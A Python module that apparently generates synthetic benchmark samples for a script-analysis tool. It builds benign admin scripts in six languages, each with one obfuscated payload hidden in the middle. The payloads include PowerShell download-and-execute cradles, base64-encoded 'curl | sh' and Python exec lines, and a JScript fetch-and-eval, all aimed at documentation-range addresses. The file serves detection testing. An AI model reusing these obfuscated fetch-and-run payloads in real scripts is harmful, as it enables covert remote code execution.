"""Synthetic scripts of a chosen size for the AnalyzeScript benchmarks, one kind per language.

Each sample is ordinary administration code with one hidden payload in the middle (an encoded
command, a concatenated download cradle, a char-code string), so a benchmark exercises language
detection, several peelers, the rules and indicator extraction, as a real analysis does. The
text is written for the benchmark; addresses are documentation ranges. Nothing here runs it.
"""

from __future__ import annotations

import base64
from collections.abc import Callable

KIB = 1024


def _utf16_b64(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


_CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.77/stage.ps1')"

_FILLER: dict[str, tuple[str, ...]] = {
    "powershell": (
        "$logs = Get-ChildItem -Path $env:TEMP -Filter *.log -ErrorAction SilentlyContinue",
        "foreach ($log in $logs) { if ($log.Length -gt 10MB) { Remove-Item $log.FullName } }",
        "$svc = Get-Service -Name Spooler; if ($svc.Status -ne 'Running') { Start-Service $svc }",
        "Write-Host ('{0} files checked on {1}' -f $logs.Count, $env:COMPUTERNAME)",
        "$cfg = Import-Csv -Path .\\hosts.csv | Where-Object { $_.Role -eq 'web' }",
    ),
    "batch": (
        'if exist "%TEMP%\\build.log" del /q "%TEMP%\\build.log"',
        'for %%f in (*.txt) do echo processing %%f >> "%TEMP%\\build.log"',
        "set OUT=%~dp0out",
        'if not exist "%OUT%" mkdir "%OUT%"',
        'xcopy /y /e src "%OUT%\\src" >nul',
    ),
    "bash": (
        'for f in /var/log/app/*.log; do [ -s "$f" ] && gzip -9 "$f"; done',
        "if ! command -v jq >/dev/null 2>&1; then echo 'jq missing' >&2; fi",
        "count=$(find /srv/data -type f -mtime +30 | wc -l)",
        'echo "old files: ${count}"',
        "rsync -a --delete /srv/data/ /backup/data/",
    ),
    "python": (
        "def rotate(path, keep=5):",
        "    files = sorted(glob.glob(path + '.*'), key=os.path.getmtime)",
        "    for old in files[:-keep]:",
        "        os.remove(old)",
        "logging.info('rotated %s', LOG_PATH)",
    ),
    "javascript": (
        "var fso = new ActiveXObject('Scripting.FileSystemObject');",
        "var folder = fso.GetFolder(WScript.Arguments(0));",
        "for (var e = new Enumerator(folder.Files); !e.atEnd(); e.moveNext()) { n++; }",
        "WScript.Echo('files: ' + n);",
        "function pad(s, w) { while (s.length < w) { s = '0' + s; } return s; }",
    ),
    "vbscript": (
        'Set fso = CreateObject("Scripting.FileSystemObject")',
        'Set folder = fso.GetFolder("C:\\Reports")',
        "For Each f In folder.Files",
        '    If DateDiff("d", f.DateLastModified, Now) > 30 Then f.Delete',
        "Next",
    ),
}


def _payloads() -> dict[str, str]:
    chars = ",".join(str(ord(c)) for c in "http://203.0.113.15/a.js")
    return {
        "powershell": f"powershell -nop -w hidden -EncodedCommand {_utf16_b64(_CRADLE)}",
        "batch": f"set p=pow&& set q=ershell&& call %p%%q% -enc {_utf16_b64(_CRADLE)}",
        "bash": "echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC44OC94LnNoIHwgc2gK | base64 -d | sh",
        "python": "exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))",
        "javascript": f"var u = String.fromCharCode({chars}); var x = new ActiveXObject("
        "'MSXML2.XMLHTTP'); x.open('GET', u, false); x.send(); eval(x.responseText);",
        "vbscript": 'Set s = CreateObject("WScript.Shell"): s.Run "pow" & "ershell -w hidden -c '
        + _CRADLE.replace('"', "'")
        + '", 0',
    }


LANGUAGES = tuple(_FILLER)


def sample(language: str, size: int) -> str:
    """Return a script of about `size` bytes (never less) in the language, payload in the middle."""
    filler = _FILLER[language]
    payload = _payloads()[language]
    lines: list[str] = []
    total = len(payload) + 1
    index = 0
    while total < size:
        line = filler[index % len(filler)]
        lines.append(line)
        total += len(line) + 1
        index += 1
    lines.insert(len(lines) // 2, payload)
    return "\n".join(lines) + "\n"


def sampler(language: str) -> Callable[[int], str]:
    """Return a function of the size that builds this language's sample."""

    def build(size: int) -> str:
        return sample(language, size)

    return build
